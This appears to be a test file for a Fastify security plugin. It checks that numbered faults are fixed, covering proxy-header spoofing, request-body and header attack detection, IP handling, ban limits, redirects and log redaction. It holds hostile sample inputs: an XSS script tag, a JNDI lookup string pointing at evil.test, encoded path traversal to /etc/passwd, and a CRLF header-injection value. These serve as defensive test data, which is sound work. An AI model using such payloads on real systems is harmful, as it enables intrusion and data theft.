import { connect, type AddressInfo } from 'node:net'
import { test, type TestContext } from 'node:test'
import { build, buildRoute, CLIENT, raw, startError, status } from '../helpers.ts'

// Each fault of the original by its number in reference/original.md, section 17. Those that test/rivals.test.ts
// has already are here again in short, so that the list is whole.

const script = '<script>alert(1)</script>'
const coded = encodeURIComponent(script)

test('B1: the left-most X-Forwarded-For lifts no limit, ban or list', async (t: TestContext) => {
  const { app } = await build(t, { clientIp: { trustedProxies: ['10.0.0.1'] }, rateLimit: { max: 2, window: '1m' } })
  const via = (left: string): Promise<number> => status(app, { ip: '10.0.0.1', headers: { 'x-forwarded-for': `${left}, ${CLIENT}` } })
  t.assert.deepStrictEqual([await via('1.1.1.1'), await via('2.2.2.2'), await via('3.3.3.3')], [200, 200, 429])
  app.guard.ban(CLIENT)
  t.assert.strictEqual(await via('4.4.4.4'), 403)
  const listed = await build(t, { clientIp: { trustedProxies: ['10.0.0.1'] }, ip: { allow: ['192.0.2.1'] } })
  t.assert.strictEqual(await status(listed.app, { ip: '10.0.0.1', headers: { 'x-forwarded-for': `192.0.2.1, ${CLIENT}` } }), 403)
})

test('B2: a route with rules of its own is still under the plugin\'s', async (t: TestContext) => {
  const { app } = await buildRoute(t, { methods: ['GET'] }, { ip: { deny: [CLIENT] }, https: true, ban: {} })
  t.assert.strictEqual(await status(app, { url: '/guarded' }), 403)
  const response = await app.inject({ url: '/guarded', remoteAddress: '203.0.113.8' })
  t.assert.strictEqual(response.json<{ code: string }>().code, 'GUARD_HTTPS_REQUIRED')
})

test('B3: OPTIONS passes no check by, with CORS on or off', async (t: TestContext) => {
  for (const cors of [false, { origin: ['https://a.test'] }]) {
    const { app } = await build(t, { cors, ip: { deny: [CLIENT] } })
    for (const headers of [{}, { origin: 'https://a.test', 'access-control-request-method': 'GET' }]) t.assert.strictEqual(await status(app, { method: 'OPTIONS', headers: headers as Record<string, string> }), 403)
  }
})

test('B4, B5, B6, B7: forms, nested JSON, repeated keys, names of parameters and members', async (t: TestContext) => {
  const { default: formbody } = await import('@fastify/formbody')
  const { app } = await build(t, {}, async (app) => { await app.register(formbody); app.post('/', async () => 'ok') })
  const post = (payload: string, type: string): Promise<number> => status(app, { method: 'POST', payload, headers: { 'content-type': type } })
  t.assert.strictEqual(await post(`a=b&q=${coded}`, 'application/x-www-form-urlencoded'), 400, 'B4')
  for (const value of [{ a: { b: [{ c: script }] } }, [[script]], { a: JSON.stringify({ b: script }) }]) t.assert.strictEqual(await post(JSON.stringify(value), 'application/json'), 400, `B5 ${JSON.stringify(value)}`)
  t.assert.strictEqual(await status(app, { url: `/?q=${encodeURIComponent(JSON.stringify({ a: script }))}` }), 400, 'B5 in a query')
  t.assert.strictEqual(await status(app, { url: `/?q=fine&q=${coded}` }), 400, 'B6')
  t.assert.strictEqual(await status(app, { url: `/?${coded}=1` }), 400, 'B7')
  t.assert.strictEqual(await post(JSON.stringify({ [script]: 1 }), 'application/json'), 400, 'B7')
})

test('B8: User-Agent, Referer and other headers are looked at', async (t: TestContext) => {
  const { app } = await build(t)
  const jndi = '$' + '{jndi:ldap://evil.test/a}'
  for (const name of ['user-agent', 'referer', 'x-api-version', 'cookie']) t.assert.strictEqual(await status(app, { headers: { [name]: name === 'cookie' ? `a=${jndi}` : jndi } }), 400, name)
})

test('B9: double encoding, entities and look-alikes', async (t: TestContext) => {
  const { app } = await build(t)
  for (const value of [encodeURIComponent(coded), encodeURIComponent('&lt;script&gt;alert(1)&lt;/script&gt;'), encodeURIComponent('\uff1cscript\uff1ealert(1)\uff1c/script\uff1e'), encodeURIComponent('..%252f..%252f..%252fetc/passwd')]) t.assert.strictEqual(await status(app, { url: `/?q=${value}` }), 400, value)
})

test('B10: IPv4-mapped IPv6 is IPv4', async (t: TestContext) => {
  const { app } = await build(t, { ip: { deny: ['192.0.2.0/24'] } })
  for (const ip of ['::ffff:192.0.2.1', '::ffff:c000:201']) t.assert.strictEqual(await status(app, { ip }), 403, ip)
})

test('B11: other values of a path parameter, or a slash more, give no new limit', async (t: TestContext) => {
  const { app } = await build(t, {}, (app) => { app.get('/x/:id', { config: { guard: { rateLimit: { max: 2, window: '1m' } } } }, async () => 'ok') }, { routerOptions: { ignoreTrailingSlash: true } })
  t.assert.deepStrictEqual([await status(app, { url: '/x/1' }), await status(app, { url: '/x/2/' }), await status(app, { url: '/x/3?a=1' })], [200, 200, 429])
})

test('B12, B13: chunked bodies are counted, a malformed Content-Length is refused', async (t: TestContext) => {
  const { app } = await build(t, { maxBodyBytes: 100 }, (app) => { app.post('/', async () => 'ok') })
  await app.listen({ host: '127.0.0.1', port: 0 })
  const head = 'POST / HTTP/1.1\r\nhost: a\r\ncontent-type: text/plain\r\nconnection: close\r\n'
  t.assert.match(await raw(app, `${head}transfer-encoding: chunked\r\n\r\n200\r\n${'x'.repeat(512)}\r\n0\r\n\r\n`), /^HTTP\/1\.1 413/)
  for (const length of ['abc', '-1', '1e3', '5, 5000']) t.assert.match(await raw(app, `${head}content-length: ${length}\r\n\r\n${'x'.repeat(5000)}`), /^HTTP\/1\.1 400/, length)
})

test('B14: an empty or unknown credential is none', async (t: TestContext) => {
  const { app } = await build(t, {}, (app) => {
    app.get('/bearer', { config: { guard: { auth: { scheme: 'bearer', verify: (token: string) => token === 'good' } } } }, async () => 'ok')
    app.get('/key', { config: { guard: { apiKey: { keys: ['good'] } } } }, async () => 'ok')
  })
  for (const authorization of ['Bearer ', 'Bearer', 'Bearer x']) t.assert.strictEqual(await status(app, { url: '/bearer', headers: { authorization } }), 401, authorization)
  for (const key of ['', 'x', 'anything']) t.assert.strictEqual(await status(app, { url: '/key', headers: { 'x-api-key': key } }), 401, key)
})

test('B15: honeypots in multipart and nested JSON', async (t: TestContext) => {
  const { default: multipart } = await import('@fastify/multipart')
  const { app } = await build(t, { honeypot: { fields: ['website'] } }, async (app) => { await app.register(multipart, { attachFieldsToBody: true }); app.post('/', async () => 'ok') })
  t.assert.strictEqual(await status(app, { method: 'POST', payload: { a: { b: { website: 'x' } } } }), 403)
  t.assert.strictEqual(await status(app, { method: 'POST', headers: { 'content-type': 'multipart/form-data; boundary=b' }, payload: '--b\r\ncontent-disposition: form-data; name="website"\r\n\r\nx\r\n--b--\r\n' }), 403)
})

test('B16: fresh addresses push no ban out below the bound, and say so at it', async (t: TestContext) => {
  const { app, events } = await build(t, { maxKeys: 1000 })
  app.guard.ban(CLIENT, { duration: '2h' })
  for (let i = 0; i < 900; i++) await status(app, { ip: `198.51.${i >> 8}.${i & 255}` })
  t.assert.strictEqual(await status(app), 403)
  for (let i = 0; i < 1100; i++) app.guard.ban(`198.18.${i >> 8}.${i & 255}`, { duration: '1h' })
  t.assert.strictEqual(await status(app), 403, 'the longest stays longest')
  t.assert.ok(events.some((event) => event.type === 'warning' && event.code === 'GUARD_BANS_FULL'), 'said')
})

test('B17: a /64 is one client for limits and bans', async (t: TestContext) => {
  const { app } = await build(t, { rateLimit: { max: 1, window: '1m' } })
  t.assert.deepStrictEqual([await status(app, { ip: '2001:db8::1' }), await status(app, { ip: '2001:db8::ffff:1' })], [200, 429])
  app.guard.ban('2001:db8:1::1')
  t.assert.strictEqual(await status(app, { ip: '2001:db8:1::2' }), 403)
})

test('B18: what is excluded ends at a segment, and is the route that matched', async (t: TestContext) => {
  const { app } = await build(t, { exclude: ['/static'], ip: { deny: [CLIENT] } }, (app) => { for (const url of ['/static', '/static/*', '/staticadmin']) app.get(url, async () => 'ok') })
  t.assert.deepStrictEqual([await status(app, { url: '/static' }), await status(app, { url: '/static/a' }), await status(app, { url: '/staticadmin' })], [200, 200, 403])
})

test('B19: a redirect never leads to the host that the request names', async (t: TestContext) => {
  const { app } = await build(t, { https: { redirect: true, host: 'api.example.com' } })
  const response = await app.inject({ url: '/a', headers: { host: 'evil.test' } })
  t.assert.strictEqual(response.headers['location'], 'https://api.example.com/a')
})

test('B20: rules, headers and databases are checked, not believed', async (t: TestContext) => {
  t.assert.match((await startError({ securityHeaders: { custom: { 'x-a': 'b\r\nset-cookie: c=d' } } })).message, /securityHeaders\.custom/)
  t.assert.match((await startError({ detection: { rules: [{ id: 'a', pattern: '' }] } })).message, /detection\.rules\[0\]\.pattern/)
  const { app } = await build(t, { geo: { handler: { lookup: () => ({ country: 7, asn: 'x' }) as never } }, country: { deny: ['US'] } })
  t.assert.strictEqual(await status(app), 200)
})

// Open where it should be shut, section 17.2. Redis that is down: test/redis; ranges that are not there: test/cloud.

test('a check that throws refuses', async (t: TestContext) => {
  const { app } = await build(t, { check: () => { throw new Error('broken') } })
  t.assert.strictEqual(await status(app), 500)
})

test('what would be dropped in silence stops the start: zones, expressions, providers, policies, databases', async (t: TestContext) => {
  for (const [options, route, path] of [
    [{ timeWindow: { start: '09:00', end: '17:00', timeZone: 'Mars/Olympus' } }, {}, /timeWindow\.timeZone/],
    [{ userAgent: { deny: ['curl', 7] } }, {}, /userAgent\.deny\[1\]/],
    [{ cloud: { deny: ['aws', 'azur'] } }, {}, /cloud\.deny\[1\].*did you mean azure/],
    [{}, 'nowhere', /names no policy: "nowhere"/],
    [{ country: { deny: ['CN'] } }, {}, /geo/],
    [{ geo: { handler: class { lookup (): null { return null } } } }, {}, /geo\.handler/]
  ] as const) t.assert.match((await startError(options, route)).message, path)
})

// Wrong results, section 17.4.

test('usage and frequency count a call once each', async (t: TestContext) => {
  const { app } = await build(t, { behavior: { usage: { max: 2, window: '1m', action: 'ban' }, frequency: { max: 100, action: 'ban' } } })
  t.assert.deepStrictEqual([await status(app), await status(app), await status(app)], [200, 200, 403])
})

test('throttle holds back', async (t: TestContext) => {
  const { app } = await build(t, { behavior: { usage: { max: 1, window: '1m', action: 'throttle', delay: 30_000 } } })
  t.assert.strictEqual(await status(app), 200)
  let answered = false
  const held = status(app).then((code) => { answered = true; return code })
  t.assert.strictEqual(await status(app, { ip: '192.0.2.1' }), 200)
  t.assert.strictEqual(answered, false)
  await app.close()
  t.assert.strictEqual(await held, 200)
})

test('limits by country are an option, and refusals say when, what and no more', async (t: TestContext) => {
  const { app } = await build(t, { geo: { handler: { lookup: (ip) => ({ country: ip === CLIENT ? 'CN' : 'DE' }) } }, rateLimit: { max: 100, window: '1m', byCountry: { CN: 1 } } })
  t.assert.strictEqual(await status(app), 200)
  const answer = await app.inject({ url: '/', remoteAddress: CLIENT })
  t.assert.strictEqual(answer.statusCode, 429)
  t.assert.match(String(answer.headers['retry-after']), /^[1-9]\d*$/)
  t.assert.deepStrictEqual(Object.keys(answer.json<object>()).sort(), ['code', 'error', 'message', 'statusCode'])
  const attack = await app.inject({ url: `/?q=${coded}`, remoteAddress: '192.0.2.1' })
  t.assert.strictEqual(attack.json<{ code: string }>().code, 'GUARD_ATTACK_DETECTED')
  t.assert.doesNotMatch(attack.body, /script|xss|query/)
})

test('the answer of a refusal is changed once', async (t: TestContext) => {
  let calls = 0
  const { app } = await build(t, { ip: { deny: [CLIENT] }, response: { modify: () => { calls++ } } })
  await status(app)
  t.assert.strictEqual(calls, 1)
})

test('a ban lasts as long as it says, beyond an hour too', async (t: TestContext) => {
  const { app } = await build(t)
  const { since, until } = app.guard.ban(CLIENT, { duration: '1d' })
  t.assert.strictEqual(until - since, 86_400_000)
})

test('HSTS is for https only, and CORS says its max-age and exposed headers', async (t: TestContext) => {
  const { app } = await build(t, { cors: { origin: ['https://a.test'], maxAge: 600, exposedHeaders: ['x-total'] } })
  const answer = await app.inject({ url: '/', headers: { origin: 'https://a.test' } })
  t.assert.strictEqual(answer.headers['strict-transport-security'], undefined)
  t.assert.strictEqual(answer.headers['access-control-expose-headers'], 'x-total')
  const preflight = await app.inject({ method: 'OPTIONS', url: '/', headers: { origin: 'https://a.test', 'access-control-request-method': 'GET' } })
  t.assert.strictEqual(preflight.headers['access-control-max-age'], '600')
})

test('two apps of one process share nothing', async (t: TestContext) => {
  const one = await build(t, { securityHeaders: { custom: { 'x-app': 'one' } }, rateLimit: { max: 1, window: '1m' } })
  const other = await build(t, { rateLimit: { max: 1, window: '1m' } })
  one.app.guard.ban('192.0.2.1')
  t.assert.deepStrictEqual([await status(one.app), await status(other.app), await status(other.app, { ip: '192.0.2.1' })], [200, 200, 200])
  t.assert.strictEqual((await other.app.inject('/')).headers['x-app'], undefined)
})

test('countries count in any case, and an allow list refuses others', async (t: TestContext) => {
  const { app } = await build(t, { geo: { handler: { lookup: (ip) => ip === '203.0.113.1' ? { country: 'CN' } : { country: 'DE' } } }, country: { deny: ['cn'] } }, (app) => { app.get('/only', { config: { guard: { country: { inherit: false, allow: ['de'] } } } }, async () => 'ok') })
  t.assert.deepStrictEqual([await status(app, { ip: '203.0.113.1' }), await status(app, { ip: '203.0.113.2' }), await status(app, { url: '/only', ip: '203.0.113.1' }), await status(app, { url: '/only', ip: '203.0.113.2' })], [403, 200, 403, 200])
})

test('emergency lists take networks', async (t: TestContext) => {
  const { app } = await build(t, { emergency: { enabled: true, allow: ['192.0.2.0/24'] } })
  t.assert.deepStrictEqual([await status(app, { ip: '192.0.2.9' }), await status(app)], [200, 503])
})

test('switching detection off for a route makes no event a request', async (t: TestContext) => {
  const { app, events } = await buildRoute(t, { detection: false })
  for (let i = 0; i < 3; i++) await status(app, { url: `/guarded?q=${coded}` })
  t.assert.strictEqual(events.length, 0)
})

test('logs have no secrets and no raw control characters', async (t: TestContext) => {
  const { app, lines, events } = await build(t, { ip: { deny: [CLIENT] } })
  await status(app, { url: '/?token=s3cr3t', headers: { authorization: 'Bearer s3cr3t', cookie: 'sid=s3cr3t', 'x-api-key': 's3cr3t', 'user-agent': 'a\tb' } })
  const told = JSON.stringify([lines.filter((line) => String(line['event'] ?? '').startsWith('guard.')), events])
  t.assert.ok(!told.includes('s3cr3t'), told)
})

test('an application that answers nothing does not hold the guard\'s state', async (t: TestContext) => {
  const { app } = await build(t, { concurrency: { max: 1 } }, (app) => { app.get('/never', () => new Promise(() => {})) })
  await app.listen({ host: '127.0.0.1', port: 0 })
  for (let i = 0; i < 3; i++) {
    const socket = connect((app.server.address() as AddressInfo).port, '127.0.0.1', () => socket.write('GET /never HTTP/1.1\r\nhost: a\r\n\r\n'))
    await new Promise((resolve) => setTimeout(resolve, 40))
    socket.destroy()
    await new Promise((resolve) => setTimeout(resolve, 40))
  }
  t.assert.strictEqual(await status(app, { ip: '127.0.0.1' }), 200)
})
